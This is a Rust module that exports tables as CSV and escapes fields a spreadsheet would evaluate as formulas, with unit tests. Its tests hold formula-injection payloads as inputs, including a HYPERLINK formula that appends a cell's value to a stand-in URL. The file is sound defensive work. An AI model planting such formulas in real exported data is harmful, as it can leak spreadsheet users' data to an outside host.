//! CSV, for spreadsheets and for programs.
//!
//! A spreadsheet evaluates any field that begins with `=` as a formula, wherever the field came
//! from. So text from data gets an apostrophe before such a beginning.

use std::borrow::Cow;

use fupan_market::shown;

use crate::Error;

/// Who the CSV is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Csv {
    /// For a spreadsheet or a person: [`guarded`] text.
    Sheet,
    /// For a program: text as it is stored.
    Raw,
}

/// Text that a spreadsheet does not evaluate: hidden characters are escaped, and an apostrophe goes
/// before anything that looks like the beginning of a formula. Numbers are unchanged.
///
/// Removing one apostrophe from every field that matches `^'+\s*[=+\-@＝＋－＠]` restores the text: a
/// text that already begins with apostrophes gets one more.
pub fn guarded(text: &str) -> Cow<'_, str> {
    let safe = shown(text);
    let begins = safe.trim_start_matches('\'').trim_start();
    let formula = begins.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    if formula && !is_number(&safe) { Cow::Owned(format!("'{safe}")) } else { safe }
}

/// Whether text is a plain decimal number, with or without a sign and an exponent.
fn is_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let unsigned = |text: &str| text.strip_prefix(['+', '-']).unwrap_or(text).to_owned();
    let text = unsigned(text);
    let (number, exponent) = match text.split_once(['e', 'E']) {
        Some((number, exponent)) => (number, Some(unsigned(exponent))),
        None => (text.as_str(), None),
    };
    let (whole, decimals) = match number.split_once('.') {
        Some((whole, decimals)) => (whole, Some(decimals)),
        None => (number, None),
    };
    digits(whole) && decimals.is_none_or(digits) && exponent.as_deref().is_none_or(digits)
}

/// A table as CSV. Columns marked as numbers are not guarded.
///
/// # Errors
/// [`Error::Table`] if a row cannot be written.
pub fn csv<'a, C: AsRef<str> + 'a>(
    header: &[C],
    numeric: &[bool],
    rows: impl IntoIterator<Item = impl IntoIterator<Item = &'a str>>,
    written: Csv,
) -> Result<String, Error> {
    let failed = |error: csv::Error| Error::table(error);
    let field = |text: &'a str, is_number: bool| match written {
        Csv::Sheet if !is_number => guarded(text),
        Csv::Sheet | Csv::Raw => Cow::Borrowed(text),
    };
    let mut writer = csv::Writer::from_writer(Vec::new());
    let names = header.iter().map(|name| match written {
        Csv::Sheet => guarded(name.as_ref()),
        Csv::Raw => Cow::Borrowed(name.as_ref()),
    });
    writer.write_record(names.map(|name| name.into_owned())).map_err(failed)?;
    for row in rows {
        let numeric = numeric.iter().copied().chain(std::iter::repeat(false));
        let fields = row.into_iter().zip(numeric).map(|(text, is_number)| field(text, is_number));
        writer.write_record(fields.map(Cow::into_owned)).map_err(failed)?;
    }
    let bytes = writer.into_inner().map_err(Error::table)?;
    String::from_utf8(bytes).map_err(Error::table)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_be_a_formula_has_an_apostrophe() {
        for (text, field) in [
            ("=HYPERLINK(\"http://e/?\"&A1)", "'=HYPERLINK(\"http://e/?\"&A1)"),
            ("+1+2", "'+1+2"),
            ("-甲", "'-甲"),
            ("-", "'-"),
            ("--1", "'--1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("＝1+1", "'＝1+1"),
            (" =1", "' =1"),
            ("'=1", "''=1"),
            ("'甲", "'甲"),
            ("\t=1", "\\u{9}=1"),
            ("\r=1", "\\u{d}=1"),
            ("-1.5", "-1.5"),
            ("+3", "+3"),
            ("-1.5e-7", "-1.5e-7"),
            ("-1.5.2", "'-1.5.2"),
            ("+e5", "'+e5"),
            ("*ST甲", "*ST甲"),
            ("甲,\"乙\"", "甲,\"乙\""),
            ("", ""),
        ] {
            assert_eq!(guarded(text), field, "{text}");
        }
    }

    #[test]
    fn a_table_is_quoted_not_altered() {
        let rows = [["甲,\"乙\"\u{1b}", "-1"], ["=A1", "-A1"]];
        let rows = || rows.iter().map(|row| row.iter().copied());
        let sheet = csv(&["name", "n"], &[false, true], rows(), Csv::Sheet).unwrap();
        assert_eq!(sheet, "name,n\n\"甲,\"\"乙\"\"\\u{1b}\",-1\n'=A1,-A1\n");
        let raw = csv(&["name", "n"], &[false, true], rows(), Csv::Raw).unwrap();
        assert_eq!(raw, "name,n\n\"甲,\"\"乙\"\"\u{1b}\",-1\n=A1,-A1\n");
    }
}
